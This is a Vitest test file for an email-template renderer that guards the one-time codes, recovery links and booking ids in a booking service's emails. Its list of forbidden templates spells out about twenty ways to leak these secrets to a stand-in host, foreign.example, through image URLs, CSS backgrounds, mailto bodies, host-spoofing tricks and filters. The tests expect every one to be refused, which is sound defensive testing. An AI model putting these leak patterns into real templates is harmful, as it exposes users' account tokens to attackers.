import { describe, expect, it } from 'vitest';
import { findProblem } from './check-template.ts';
import { writeMail } from './write-mail.ts';

const link = 'https://shine.example/auth/v1/verify?token=pkce_5f1c&type=recovery';
const variables = {
  business_name: 'Shine',
  email: 'ada@example.com',
  confirmation_url: link,
  booking_id: '3f2b8c1e-5d4a-4b7e-9c0f-1a2b3c4d5e6f',
  token: '815429',
};
const written = (content: string, subject = 'Hello') => writeMail({ subject, content }, variables);

describe('the secrets of an email', () => {
  it('are printed as text, in the subject, and as the whole address of a link', async () => {
    const { subject, html, text } = await written(
      '<p class="button"><a href="{{ confirmation_url }}">Go on</a></p>' +
        '<p>Or ({{ token }}), code:{{ token }}. Or open {{ confirmation_url | escape }}.</p>',
      'Your code is {{ token }}',
    );
    expect(subject).toBe('Your code is 815429');
    expect(html).toContain(`href="${link.replace('&', '&amp;')}"`);
    expect(html).toContain('Or (815429), code:815429. Or open https://shine.example/');
    expect(text).toContain(`Go on: ${link}`);
  });

  it('may be part of a link to our own pages', async () => {
    const { html } = await written(
      '<a href="https://shine.example/my-bookings?booking_id={{ booking_id }}">See it</a>',
    );
    expect(html).toContain(
      `href="https://shine.example/my-bookings?booking_id=${variables.booking_id}"`,
    );
  });

  it('may be followed by what the link chooses', async () => {
    const { html } = await written(
      '<a href="{{ confirmation_url }}&choice=2026-12-08T09:00">9 AM</a>',
    );
    expect(html).toContain(`href="${link.replace('&', '&amp;')}&amp;choice=2026-12-08T09:00"`);
  });

  it('are what a condition finds them to be', async () => {
    const { html } = await written('{% if token != "" %}<p>{{ token }}</p>{% endif %}');
    expect(html).toContain('815429');
  });

  const forbidden: [string, string][] = [
    [
      'a link of ours that leads on',
      '<a href="{{ confirmation_url }}&redirect_to=https://foreign.example">Go</a>',
    ],
    [
      'the address of a foreign link',
      '<a href="http://foreign.example?x={{ confirmation_url }}">Go</a>',
    ],
    ['the name of a foreign host', '<a href="https://{{ token }}.foreign.example/">Go</a>'],
    [
      'a host that begins as our own',
      '<a href="https://shine.example.foreign.example/{{ token }}">Go</a>',
    ],
    ['a host behind our own', '<a href="https://shine.example@foreign.example/{{ token }}">Go</a>'],
    [
      'a host behind a link of ours',
      '<a href="{{ confirmation_url }}&amp;@foreign.example">Go</a>',
    ],
    ['a picture', '<img src="https://foreign.example/{{ token }}.png" alt="">'],
    ['a whole picture', '<img src="{{ confirmation_url }}" alt="">'],
    [
      'a background',
      '<table background="https://foreign.example/{{ token }}"><tr><td>x</td></tr></table>',
    ],
    ['a style', '<p style="background:url(https://foreign.example/{{ token }})">x</p>'],
    ['an email', '<a href="mailto:evil@foreign.example?body={{ token }}">Write</a>'],
    ['a title', '<p title="{{ token }}">x</p>'],
    ['a typed address', '<p>http://foreign.example/?x={{ confirmation_url }}</p>'],
    ['a typed address in pieces', '<p>http://foreign.example/<b>{{ token }}</b></p>'],
    [
      'a hidden typed address',
      '<p class="preview" style="display:none">foreign.example/{{ token }}</p><p>x</p>',
    ],
    ['a typed host', '<p>{{ token }}.foreign.example</p>'],
    ['a reversed link', '<a href="https://foreign.example/{{ token | reverse }}">Go</a>'],
    ['a cut link', '<img src="https://foreign.example/{{ token | slice: 0, 3 }}.png" alt="">'],
    [
      'an encoded link',
      '<a href="https://foreign.example/{{ confirmation_url | url_encode }}">Go</a>',
    ],
    [
      'a captured link',
      '{% capture it %}x{{ token }}{% endcapture %}<a href="https://foreign.example/{{ it }}">Go</a>',
    ],
    ['its first character', '<img src="https://foreign.example/{{ token.first }}.png" alt="">'],
  ];
  it.each(forbidden)('are refused in %s', async (_what, content) => {
    await expect(written(content)).rejects.toThrow();
    expect(await findProblem({ subject: 'Hello', content }, variables)).toMatchObject({
      field: 'content',
      line: 1,
    });
  });

  it('are refused in an address in the subject', async () => {
    const subject = 'See foreign.example/{{ token }}';
    await expect(written('<p>x</p>', subject)).rejects.toThrow();
    expect(await findProblem({ subject, content: 'x' }, variables)).toMatchObject({
      field: 'subject',
      message: '“token” opens an account or a booking, so it can’t be part of another address.',
    });
  });

  it('reveal nothing to a condition', async () => {
    const { html } = await written(
      '{% if token contains "8" %}<img src="https://foreign.example/8.png" alt="">{% endif %}<p>x</p>',
    );
    expect(html).not.toContain('foreign');
  });

  it('can’t be asked for by a customer’s text', async () => {
    const { html } = await writeMail(
      { subject: 'Hello', content: '<p>{{ customer_name }}</p>' },
      { ...variables, customer_name: '\uE000token\uE001' },
    );
    expect(html).not.toContain('815429');
  });
});
